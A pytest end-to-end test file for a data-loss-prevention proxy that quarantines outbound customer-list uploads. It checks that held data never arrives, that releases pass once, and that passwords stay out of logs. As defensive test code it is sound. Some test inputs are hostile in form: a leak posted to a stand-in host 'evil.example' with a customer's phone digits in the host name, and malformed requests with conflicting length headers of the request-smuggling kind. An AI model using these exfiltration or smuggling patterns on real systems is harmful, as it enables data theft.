"""What arrives and what does not, with a real proxy, real curl and a far end that counts."""

from __future__ import annotations

import base64
import gzip
import hashlib
import json
import signal
import socket
import time
from concurrent.futures import ThreadPoolExecutor
from typing import TYPE_CHECKING

import pytest

from exfilter.index import build, keys
from exfilter.quarantine import Quarantine, State
from fixtures.customers import customers, write_csv
from tests.e2e.conftest import PEOPLE
from tests.e2e.house import Proxy, Shared, copy, exfilter, http, https
from tests.e2e.raw import Sink

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from fixtures.farend import FarEnd

CHUNKED = ("-H", "Transfer-Encoding: chunked")


@pytest.fixture
def proxy(shared: Shared) -> Proxy:
    return shared.begin()


@pytest.fixture
def own(folder: Path, far_end: FarEnd) -> Iterator[Proxy]:
    """Open a door of the test's own: what it releases and lists is only its own."""
    with Proxy(folder, ("--upstream-ca", str(far_end.ca))) as proxy:
        yield proxy


@pytest.fixture(scope="module")
def trusting_nobody(template: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Proxy]:
    with Proxy(copy(template, tmp_path_factory.mktemp("distrust") / "config")) as proxy:
        yield proxy


def urls(far_end: FarEnd) -> tuple[str, str]:
    return http(far_end), https(far_end)


def test_an_ordinary_form_arrives_byte_for_byte_over_http_and_https(
    proxy: Proxy, far_end: FarEnd, form: bytes
) -> None:
    for url in urls(far_end):
        reply = proxy.curl(url, data=form)
        assert (reply.status, reply.body) == (200, "arrived\n")
        assert "alt-svc" not in reply.headers
    assert [arrival.sha256 for arrival in far_end.arrivals] == [hashlib.sha256(form).hexdigest()] * 2
    lines = [line for line in proxy.decisions() if line["method"] == "POST"]
    assert [(line["action"], line["held"], line["actor"]) for line in lines] == [
        ("allow", False, "127.0.0.1")
    ] * 2


def test_a_customer_in_a_host_name_is_in_no_log_and_no_list(own: Proxy, leak: bytes) -> None:
    person = next(each for each in customers(PEOPLE) if each.phone)
    digits = "".join(filter(str.isdigit, person.phone))
    assert own.curl(f"http://x-{digits}.evil.example/", data=leak).status == 403
    (line,) = own.decisions()
    listed = exfilter("quarantine", "list", "--format", "json", "--config", own.folder).stdout
    assert line["destination"] == json.loads(listed)[0]["destination"] != ""
    assert line["destination"].endswith(".evil.example")
    kept = [file for file in own.folder.rglob("*") if file.is_file()]
    assert not [file.name for file in kept if digits.encode() in file.read_bytes()]


@pytest.mark.parametrize(
    "arguments",
    [(), CHUNKED, ("-H", "Content-Type: image/png"), ("-X", "PUT"), ("-H", "Expect: 100-continue")],
    ids=["plain", "chunked", "wrong type", "put", "continue"],
)
def test_a_customer_list_is_held_and_not_a_byte_arrives(
    proxy: Proxy, far_end: FarEnd, leak: bytes, arguments: tuple[str, ...]
) -> None:
    ids = set()
    for url in urls(far_end):
        reply = proxy.curl(url, *arguments, data=leak)
        ids.add(reply.transfer_id)
        assert reply.status == 403
        assert reply.transfer_id
        assert reply.transfer_id in reply.body
        assert "held for review" in reply.body.lower()
        assert "@" not in reply.body
    assert (far_end.connections, far_end.body_bytes) == (0, 0)
    held = [entry for entry in Quarantine.open(proxy.folder / "quarantine").entries() if entry.id in ids]
    assert {entry.destination for entry in held} == {"127.0.0.1", "localhost"}
    assert {line["held"] for line in proxy.decisions() if line["method"] in {"POST", "PUT"}} == {True}


def test_a_gzipped_customer_list_is_held(proxy: Proxy, far_end: FarEnd, leak: bytes) -> None:
    for header in ("Content-Encoding: gzip", "Content-Type: text/plain"):
        assert proxy.curl(http(far_end), "-H", header, data=gzip.compress(leak)).status == 403
    assert far_end.connections == 0


def test_http2_is_held_and_forwarded_like_http1(
    proxy: Proxy, far_end: FarEnd, leak: bytes, form: bytes
) -> None:
    held = proxy.curl(https(far_end), "--http2", data=leak)
    assert held.status == 403
    assert held.transfer_id
    assert far_end.connections == 0
    assert proxy.curl(https(far_end), "--http2", data=form).status == 200
    assert far_end.body_bytes == len(form)


def test_customers_in_the_url_are_held(proxy: Proxy, far_end: FarEnd, leak: bytes) -> None:
    query = "&".join(line.replace(",", "%2C").replace(" ", "+") for line in leak.decode().splitlines()[1:40])
    reply = proxy.curl(http(far_end, "/search?q=" + query))
    assert reply.status == 403
    assert far_end.connections == 0


def test_a_client_that_prefers_json_gets_json(proxy: Proxy, far_end: FarEnd, leak: bytes) -> None:
    reply = proxy.curl(http(far_end), "-H", "Accept: application/json", data=leak)
    assert json.loads(reply.body)["transfer"] == reply.transfer_id


def test_a_client_that_leaves_halfway_has_sent_nothing(proxy: Proxy, far_end: FarEnd, form: bytes) -> None:
    host, port = proxy.address.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), 10) as client:
        head = f"POST {http(far_end)} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: {len(form) * 2}\r\n\r\n"
        client.sendall(head.encode() + form)
    assert proxy.curl(http(far_end), data=form).status == 200
    assert [arrival.bytes for arrival in far_end.arrivals] == [len(form)]


def test_a_tunnel_that_speaks_something_else_carries_nothing(
    proxy: Proxy, far_end: FarEnd, leak: bytes
) -> None:
    host, port = proxy.address.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), 10) as client:
        client.sendall(f"CONNECT 127.0.0.1:{far_end.http} HTTP/1.1\r\n\r\n".encode())
        assert b"200" in client.recv(1000)
        client.sendall(b"\x00\x01" + leak)
        client.shutdown(socket.SHUT_WR)
        while client.recv(1000):
            pass
    assert far_end.body_bytes == 0
    assert far_end.connections == 0


def test_a_release_passes_once(own: Proxy, far_end: FarEnd, leak: bytes) -> None:
    first = own.curl(http(far_end), data=leak)
    with Quarantine.open(own.folder / "quarantine") as quarantine:
        quarantine.release(first.transfer_id, "reviewer", "a test file")
    assert own.curl(http(far_end), "-X", "PUT", data=leak).status == 403
    assert own.curl(http(far_end), data=leak).status == 200
    again = own.curl(http(far_end), data=leak)
    assert again.status == 403
    assert again.transfer_id != first.transfer_id
    assert [arrival.bytes for arrival in far_end.arrivals] == [len(leak)]


def free_port() -> int:
    with socket.create_server(("127.0.0.1", 0)) as taken:
        port: int = taken.getsockname()[1]
        return port


def test_a_release_is_not_used_up_by_a_destination_that_is_down(own: Proxy, leak: bytes) -> None:
    port = free_port()
    url = f"http://127.0.0.1:{port}/upload"
    first = own.curl(url, data=leak)
    with Quarantine.open(own.folder / "quarantine") as quarantine:
        quarantine.release(first.transfer_id, "reviewer", "a test file")
        for _ in range(2):
            down = own.curl(url, data=leak)
            assert (down.status, down.transfer_id) == (502, first.transfer_id)
            assert "Destination not reached" in down.body
        assert "could not be reached" in (quarantine.show(first.transfer_id).refused or "")
    with Sink(place=("127.0.0.1", port)) as sink:
        assert own.curl(url, data=leak).status == 200
        assert own.curl(url, data=leak).status == 403
        assert sink.received.count(leak) == 1


def test_a_release_is_used_up_by_a_destination_that_breaks_off(own: Proxy, leak: bytes) -> None:
    with socket.create_server(("127.0.0.1", 0)) as listening:
        url = f"http://127.0.0.1:{listening.getsockname()[1]}/upload"
        first = own.curl(url, data=leak)
        with Quarantine.open(own.folder / "quarantine") as quarantine:
            quarantine.release(first.transfer_id, "reviewer", "a test file")
        with ThreadPoolExecutor(1) as pool:
            replying = pool.submit(own.curl, url, data=leak)
            with listening.accept()[0] as taken:
                assert taken.recv(1000)
            broken = replying.result(30)
        assert (broken.status, broken.transfer_id) == (502, first.transfer_id)
        assert "Some of this transfer may have reached it" in broken.body
        assert own.curl(url, data=leak).status == 403


@pytest.mark.parametrize("version", ["--http1.1", "--http2"])
@pytest.mark.parametrize("accept", ["text/html", "application/json"])
def test_a_destination_that_cannot_be_reached_is_told_in_our_own_words(
    trusting_nobody: Proxy, far_end: FarEnd, form: bytes, version: str, accept: str
) -> None:
    down = f"127.0.0.1:{free_port()}"
    # The last one is there, and its certificate is not to be trusted.
    for url in (f"http://{down}/", f"https://{down}/", https(far_end)):
        reply = trusting_nobody.curl(url, version, "-H", f"Accept: {accept}", data=form)
        assert (reply.status, reply.transfer_id) == (502, "")
        assert reply.headers["content-type"].startswith(accept)
        assert "Destination not reached" in reply.body
        assert "mitmproxy" not in (reply.body + repr(reply.headers)).lower()
        head = trusting_nobody.curl(url, version, "-I")
        assert (head.status, head.body.count("<")) == (502, 0)
    assert far_end.body_bytes == 0


def test_what_is_no_request_is_told_in_our_own_words(proxy: Proxy, far_end: FarEnd) -> None:
    host, port = proxy.address.removeprefix("http://").split(":")
    place = f"127.0.0.1:{far_end.http}"
    for sent in (
        b"nonsense\r\n\r\n",
        b"GET /\r\nHost: x\r\n\r\n",
        b"GET / HTTP/1.1\r\n\r\n",
        f"POST http://{place}/ HTTP/1.1\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabc".encode(),
        f"GET http://{place}/ HTTP/1.1\r\nTransfer-Encoding: x\r\n\r\n".encode(),
    ):
        with socket.create_connection((host, int(port)), 10) as client:
            client.sendall(sent)
            answer = b""
            while data := client.recv(65536):
                answer += data
        assert answer.startswith(b"HTTP/1.1 400 ")
        assert b"Not a valid request" in answer
        assert b"mitmproxy" not in answer.lower()
    assert far_end.connections == 0


def test_an_answer_that_is_not_valid_is_told_in_our_own_words(proxy: Proxy, form: bytes) -> None:
    with socket.create_server(("127.0.0.1", 0)) as listening, ThreadPoolExecutor(1) as pool:
        replying = pool.submit(proxy.curl, f"http://127.0.0.1:{listening.getsockname()[1]}/", data=form)
        with listening.accept()[0] as taken:
            taken.recv(1000)
            taken.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n")
            reply = replying.result(30)
    assert reply.status == 502
    assert "its answer was not valid" in reply.body
    assert "mitmproxy" not in (reply.body + repr(reply.headers)).lower()


def test_what_a_sender_was_told_is_held_survives_kill_9(folder: Path, far_end: FarEnd, leak: bytes) -> None:
    with Proxy(folder) as proxy:
        reply = proxy.curl(http(far_end), data=leak)
        proxy.stop(signal.SIGKILL)
    assert reply.status == 403
    with Quarantine.open(folder / "quarantine") as quarantine:
        assert quarantine.verify().whole
        assert quarantine.show(reply.transfer_id).state is State.HELD
        quarantine.export(reply.transfer_id, folder / "reviewer.key", folder / "exported")
    assert (folder / "exported").read_bytes() == leak
    with Proxy(folder) as proxy:
        assert proxy.curl(http(far_end), data=leak).transfer_id == reply.transfer_id


def test_audit_only_records_and_lets_pass(folder: Path, far_end: FarEnd, leak: bytes) -> None:
    with Proxy(folder, ("--audit-only",)) as proxy:
        assert proxy.curl(http(far_end), data=leak).status == 200
        (line,) = proxy.decisions()
    assert (line["action"], line["held"], line["audit_only"]) == ("quarantine", False, True)
    assert far_end.body_bytes == len(leak)
    assert not Quarantine.open(folder / "quarantine").entries()


def test_a_body_over_the_limit_is_refused_with_a_page(folder: Path, far_end: FarEnd) -> None:
    with (folder / "exfilter.toml").open("a") as settings:
        settings.write("\nmax_body = 100000\n")
    with Proxy(folder) as proxy:
        for arguments in ((), CHUNKED):
            reply = proxy.curl(http(far_end), *arguments, data=b"x" * 3_000_000)
            assert reply.status == 413
            assert "100,000 bytes" in reply.body
        assert proxy.curl(http(far_end), data=b"x y " * 20_000).status == 200
        assert [line["held"] for line in proxy.decisions()] == [True, True, False]
    assert far_end.body_bytes == 80_000


def test_users_are_actors_and_passwords_are_nowhere(folder: Path, far_end: FarEnd, form: bytes) -> None:
    secret = "swordfish-in-a-barrel"
    digest = base64.b64encode(hashlib.sha1(secret.encode()).digest()).decode()
    (folder / "users").write_text(f"anna:{{SHA}}{digest}\n")
    arguments = ("--auth", str(folder / "users"), "--upstream-ca", str(far_end.ca))
    with Proxy(folder, arguments) as proxy:
        for url in urls(far_end):
            refused = proxy.curl(url, "-U", f"anna:not-{secret}", data=form)
            assert (refused.status, refused.curl) in {(407, 0), (407, 56), (407, 22)}
            assert far_end.connections == len(far_end.arrivals)
            assert proxy.curl(url, "-U", f"anna:{secret}", data=form).status == 200
        assert {line["actor"] for line in proxy.decisions()} == {"anna"}
    assert len(far_end.arrivals) == 2
    written = b"".join(file.read_bytes() for file in folder.rglob("*") if file.is_file())
    spoken = "\n".join(proxy.said)
    for text in (secret, base64.b64encode(f"anna:{secret}".encode()).decode()):
        assert text.encode() not in written
        assert text not in spoken


def test_a_certificate_of_an_unknown_authority_is_not_trusted(
    trusting_nobody: Proxy, far_end: FarEnd, form: bytes
) -> None:
    assert trusting_nobody.curl(https(far_end), data=form).status == 502
    assert far_end.body_bytes == 0


def test_a_rebuilt_index_is_used_without_a_restart(folder: Path, far_end: FarEnd, tmp_path: Path) -> None:
    write_csv(tmp_path / "others.csv", 400, seed=99)
    others = (tmp_path / "others.csv").read_bytes()
    few = b"\n".join(others.splitlines()[:100])
    with Proxy(folder) as proxy:
        assert proxy.curl(http(far_end), data=few).status == 200
        key = keys.load(folder / "index.key")
        build.build(tmp_path / "others.csv", folder / "index", key, build.Options())
        time.sleep(1.1)
        assert proxy.curl(http(far_end), data=few).status == 403
        assert len({line["versions"]["index"] for line in proxy.decisions()}) == 2
    assert far_end.body_bytes == len(few)
